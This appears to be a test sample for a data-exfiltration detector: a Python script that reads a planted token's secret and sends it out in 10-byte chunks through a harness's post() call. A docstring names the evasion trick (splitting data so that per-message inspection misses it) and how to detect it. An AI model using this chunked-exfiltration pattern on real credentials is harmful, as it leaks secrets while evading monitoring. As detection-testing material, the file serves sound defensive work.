#!/usr/bin/python3
"""
Trick: Reads the token and sends its secret in four pieces over four connections.
Known from: chunked exfiltration; data loss prevention looks at one message at a time.
First: read-then-sent: a reader of a planted file sends at least as many bytes
Second: fanotify on the planted inode; the sinkhole's record of the streams
"""

from way_out import post, token

value = token().rsplit(b"=", 1)[1].strip()
for start in range(0, len(value), 10):
    post(b"part=" + value[start : start + 10])
print("performed")
